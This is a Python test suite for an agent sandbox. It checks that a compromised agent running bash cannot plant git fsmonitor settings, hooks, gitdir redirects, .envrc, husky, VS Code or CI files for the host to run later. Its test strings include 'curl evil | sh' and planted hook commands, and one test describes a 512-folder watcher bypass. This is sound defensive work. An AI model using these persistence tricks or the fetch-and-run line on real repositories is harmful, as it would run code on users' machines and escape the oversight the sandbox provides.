"""Attacks that prepare a `.git` (or direnv, editor, CI, husky file) for the host to run later.

Each test is a compromised agent with the real bubblewrap sandbox around bash, run the way the
bash tool runs it: a `ProtectedSnapshot` before, `settle()` after. The assertions are about the
host: after the command, no protected path is other than it was (what was planted is moved
aside, never deleted), and the user's own git would run nothing new.
"""

from __future__ import annotations

import os
import shutil
import subprocess
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from astrid_workspace import (
    PROTECTED_PATHS,
    Confinement,
    ProtectedSnapshot,
    Quarantined,
    confined_argv,
    scrubbed_environment,
)

pytestmark = pytest.mark.skipif(
    shutil.which("bwrap") is None or shutil.which("git") is None, reason="needs bwrap and git"
)

WORKFLOW = "echo on: push > .github/workflows/x.yml"
FSMONITOR = "git config core.fsmonitor 'touch /tmp/pwned'"


def run_in_sandbox(
    ws: Path, script: str, mode: str = "bwrap"
) -> tuple[subprocess.CompletedProcess[str], tuple[Quarantined, ...]]:
    snapshot = ProtectedSnapshot([str(ws)])
    confinement = Confinement(mode=mode, workspace=str(ws), shell=True, network="none")  # type: ignore[arg-type]  # noqa: S604
    argv = confined_argv("/bin/bash", ["-c", script], confinement, cwd=str(ws))
    env = scrubbed_environment() | {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null"}
    proc = subprocess.run(
        argv, env=env, cwd=str(ws), capture_output=True, text=True, timeout=60, check=False
    )
    return proc, snapshot.settle()


def git(ws: Path, *args: str) -> str:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(ws.parent), "GIT_CONFIG_NOSYSTEM": "1"}
    return subprocess.run(
        ["/usr/bin/git", *args], cwd=ws, env=env, capture_output=True, text=True, check=False
    ).stdout


@pytest.fixture
def repo(tmp_path: Path) -> Path:
    ws = tmp_path / "repo"
    ws.mkdir()
    git(ws, "init", "-q")
    (ws / "a.txt").write_text("a\n")
    return ws


@pytest.fixture
def plain(tmp_path: Path) -> Path:
    ws = tmp_path / "plain"
    ws.mkdir()
    (ws / "a.txt").write_text("a\n")
    return ws


def _git_config(ws: Path) -> str:
    return (ws / ".git" / "config").read_text()


def test_a_git_directory_cannot_be_moved_copied_back_and_reconfigured(repo: Path) -> None:
    before = _git_config(repo)
    proc, quarantined = run_in_sandbox(
        repo, f"mv .git x && cp -r x .git && {FSMONITOR}; rm -rf .git; echo ok > b.txt"
    )
    assert "busy" in proc.stderr.lower()  # a mount point: no rename, no removal
    assert _git_config(repo) == before
    assert "fsmonitor" not in git(repo, "config", "--list")
    assert quarantined == ()
    assert (repo / "b.txt").read_text() == "ok\n"  # the rest of the workspace is writable


def test_nothing_under_an_existing_git_can_be_created_or_changed(repo: Path) -> None:
    shutil.rmtree(repo / ".git" / "hooks")  # a repository without hooks/ (and no commondir)
    before = _git_config(repo)
    script = (
        "mkdir -p .git/hooks; echo 'touch /tmp/pwned' > .git/hooks/pre-commit; "
        "rm .git/config; echo '[core] fsmonitor = touch /tmp/pwned' > .git/config; "
        "echo /tmp/evil > .git/commondir; " + FSMONITOR
    )
    proc, quarantined = run_in_sandbox(repo, script)
    assert "Read-only file system" in proc.stderr
    assert not (repo / ".git" / "hooks").exists()
    assert not (repo / ".git" / "commondir").exists()
    assert _git_config(repo) == before
    assert quarantined == ()


def test_git_init_in_a_plain_workspace_is_moved_aside_and_reported(plain: Path) -> None:
    proc, quarantined = run_in_sandbox(plain, f"git init -q && {FSMONITOR} && echo planted")
    assert "planted" in proc.stdout  # inside, it worked: the check after the command catches it
    assert not (plain / ".git").exists()
    assert git(plain, "config", "--list") == ""  # the user's git finds no repository here
    [record] = quarantined
    assert record.path == str(plain / ".git")
    assert record.change == "created"
    moved = Path(record.moved_to)
    assert moved.parent.parent == plain / ".astrid" / "quarantine"
    assert moved.name == "dot-git"  # kept for the user to inspect, under a name git ignores
    assert "fsmonitor" in (moved / "config").read_text()


def test_a_gitdir_file_pointing_at_another_config_is_moved_aside(plain: Path) -> None:
    evil = plain / "evil"
    script = (
        f"git init -q --bare {evil} && git --git-dir={evil} config core.fsmonitor x && "
        f"echo 'gitdir: {evil}' > .git"
    )
    _, quarantined = run_in_sandbox(plain, script)
    assert not (plain / ".git").exists()
    assert [q.path for q in quarantined] == [str(plain / ".git")]
    assert Path(quarantined[0].moved_to).read_text().startswith("gitdir:")


def test_an_existing_gitdir_file_and_the_directories_it_names_stay_read_only(
    tmp_path: Path,
) -> None:
    # A worktree-like layout inside the writable tree: .git is a file naming a git directory
    # whose commondir names the main one.
    ws = tmp_path / "ws"
    main = ws / "main"
    main.mkdir(parents=True)
    git(main, "init", "-q")
    linked = main / ".git" / "worktrees" / "w"
    linked.mkdir(parents=True)
    (linked / "commondir").write_text("../..\n")
    wt = ws / "wt"
    wt.mkdir()
    (wt / ".git").write_text(f"gitdir: {linked}\n")
    config = (main / ".git" / "config").read_text()
    script = (
        "echo 'gitdir: /tmp/x' > wt/.git; echo ../../../evil > main/.git/worktrees/w/commondir; "
        "echo '[core] fsmonitor = x' >> main/.git/config"
    )
    proc, _ = run_in_sandbox(ws, script)
    assert proc.stderr.count("Read-only file system") == 3
    assert (wt / ".git").read_text() == f"gitdir: {linked}\n"
    assert (linked / "commondir").read_text() == "../..\n"
    assert (main / ".git" / "config").read_text() == config


@pytest.mark.parametrize(
    ("prepare", "script", "planted"),
    [
        ("", "echo 'curl evil | sh' > .envrc", ".envrc"),
        ("", "mkdir .vscode && echo '{}' > .vscode/tasks.json", ".vscode"),
        (".github", f"mkdir .github/workflows && {WORKFLOW}", ".github/workflows"),
        ("", f"mkdir -p .github/workflows && {WORKFLOW}", ".github"),
        ("", "mkdir -p .astrid && echo '[security]' > .astrid/config.toml", ".astrid"),
        ("", "mkdir .husky && echo 'touch /tmp/pwned' > .husky/pre-commit", ".husky"),
        ("", "echo 'repos: []' > .pre-commit-config.yaml", ".pre-commit-config.yaml"),
        ("", "echo '[submodule \"x\"]' > .gitmodules", ".gitmodules"),
        ("", "ln -s /tmp .vscode", ".vscode"),
    ],
)
def test_other_protected_paths_created_inside_are_moved_aside(
    plain: Path, prepare: str, script: str, planted: str
) -> None:
    if prepare:
        (plain / prepare).mkdir()
    _, quarantined = run_in_sandbox(plain, script)
    if planted == ".astrid":  # made anew, on the host, to hold the quarantine
        assert os.listdir(plain / ".astrid") == ["quarantine"]
    else:
        assert not os.path.lexists(plain / planted)
    if prepare:
        assert (plain / prepare).is_dir()  # what the user had stays where it was
    [record] = quarantined
    assert record.path == str(plain / planted)
    assert record.change == "created"
    assert os.path.lexists(record.moved_to)  # moved, not deleted


@pytest.mark.parametrize("name", [p for p in PROTECTED_PATHS if p != ".git"])
def test_existing_protected_paths_are_read_only_whole(plain: Path, name: str) -> None:
    target = plain / name
    target.parent.mkdir(parents=True, exist_ok=True)
    target.mkdir()
    (target / "keep").write_text("mine\n")
    proc, quarantined = run_in_sandbox(
        plain, f"echo evil > {name}/keep; touch {name}/new; mv {name} moved; rm -rf {name}"
    )
    assert (target / "keep").read_text() == "mine\n"
    assert sorted(p.name for p in target.iterdir()) == ["keep"]
    assert "Read-only file system" in proc.stderr
    assert quarantined == ()


def test_a_changed_protected_path_is_moved_aside_under_landlock_alone(repo: Path) -> None:
    from astrid_workspace import landlock_abi

    if landlock_abi() == 0:
        pytest.skip("needs Landlock")
    # sandbox = "landlock" has no mounts: the check after the command is the only layer.
    _, quarantined = run_in_sandbox(repo, FSMONITOR, mode="landlock")
    assert not (repo / ".git").exists()
    [record] = quarantined
    assert record.change == "changed"
    assert "fsmonitor" in (Path(record.moved_to) / "config").read_text()


def test_a_symlinked_quarantine_directory_is_not_followed(plain: Path, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (plain / ".astrid").symlink_to(outside)  # planted before (by anyone): not followed
    snapshot = ProtectedSnapshot([str(plain)])
    (plain / ".envrc").write_text("curl evil | sh\n")
    [record] = snapshot.settle()
    assert list(outside.iterdir()) == []
    assert Path(record.moved_to).parent.name.startswith(".astrid-quarantine-")
    assert Path(record.moved_to).parent.parent == plain


def test_in_a_folder_of_repositories_each_one_is_protected(tmp_path: Path) -> None:
    ws = tmp_path / "projects"
    (ws / "old").mkdir(parents=True)
    git(ws / "old", "init", "-q")
    config = (ws / "old" / ".git" / "config").read_text()
    script = (
        f"cd old && {FSMONITOR}; cd ..; mkdir new && cd new && git init -q && {FSMONITOR} && "
        "echo 'print(1)' > main.py"
    )
    proc, quarantined = run_in_sandbox(ws, script)
    assert "Read-only file system" in proc.stderr or "could not lock" in proc.stderr
    assert (ws / "old" / ".git" / "config").read_text() == config
    assert [q.path for q in quarantined] == [str(ws / "new" / ".git")]
    assert Path(quarantined[0].moved_to).name == "new--dot-git"
    assert (ws / "new" / "main.py").read_text() == "print(1)\n"  # the project's files stay


def test_a_hooks_directory_named_by_the_repositorys_config_stays_read_only(repo: Path) -> None:
    (repo / "scripts" / "hooks").mkdir(parents=True)
    git(repo, "config", "core.hooksPath", "scripts/hooks")
    proc, _ = run_in_sandbox(repo, "echo 'touch /tmp/pwned' > scripts/hooks/pre-commit")
    assert "Read-only file system" in proc.stderr
    assert list((repo / "scripts" / "hooks").iterdir()) == []


_KINDS = ("file", "dir", "symlink")


@settings(
    max_examples=40, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
@given(
    planted=st.lists(
        st.tuples(st.sampled_from(PROTECTED_PATHS), st.sampled_from(_KINDS), st.booleans()),
        max_size=6,
        unique_by=lambda t: (t[0], t[2]),
    )
)
def test_whatever_is_planted_is_moved_aside_and_nothing_else_moves(
    tmp_path_factory: pytest.TempPathFactory, planted: list[tuple[str, str, bool]]
) -> None:
    ws = tmp_path_factory.mktemp("ws")
    (ws / "proj").mkdir()
    (ws / "keep.txt").write_text("mine")
    (ws / "proj" / "code.py").write_text("print(1)")
    snapshot = ProtectedSnapshot([str(ws)])
    expected: set[str] = set()
    for name, kind, nested in planted:
        path = ws / "proj" / name if nested else ws / name
        path.parent.mkdir(parents=True, exist_ok=True)
        if kind == "file":
            path.write_text("planted")
        elif kind == "dir":
            path.mkdir()
            (path / "payload").write_text("planted")
        else:
            path.symlink_to("/tmp")
        expected.add(str(path))
    moved = snapshot.settle()
    found = {q.path for q in moved}
    # The shallowest new component is what moves (.github for a new .github/workflows).
    for path in expected:
        assert any(path == f or path.startswith(f + "/") for f in found), (path, found)
    for record in moved:
        assert record.moved_to, record.error
        assert not os.path.lexists(record.path) or record.path.endswith("/.astrid")
        assert os.path.lexists(record.moved_to)
    assert (ws / "keep.txt").read_text() == "mine"
    assert (ws / "proj" / "code.py").read_text() == "print(1)"
    assert ProtectedSnapshot([str(ws)]).settle() == ()  # settled: nothing new a second time


def test_a_new_repository_behind_512_new_folders_is_still_moved_aside(plain: Path) -> None:
    """Attack: only the first 512 subdirectories (by name) are watched; the agent makes 512
    folders that sort first, then `zzz/.git` with an fsmonitor for the user's next
    `cd zzz && git status`."""
    proc, quarantined = run_in_sandbox(
        plain, f"mkdir d{{000..599}} && mkdir zzz && cd zzz && git init -q && {FSMONITOR}"
    )
    assert proc.returncode == 0, proc.stderr
    assert not (plain / "zzz" / ".git").exists()
    assert [q.change for q in quarantined if q.path == str(plain / "zzz" / ".git")] == ["created"]
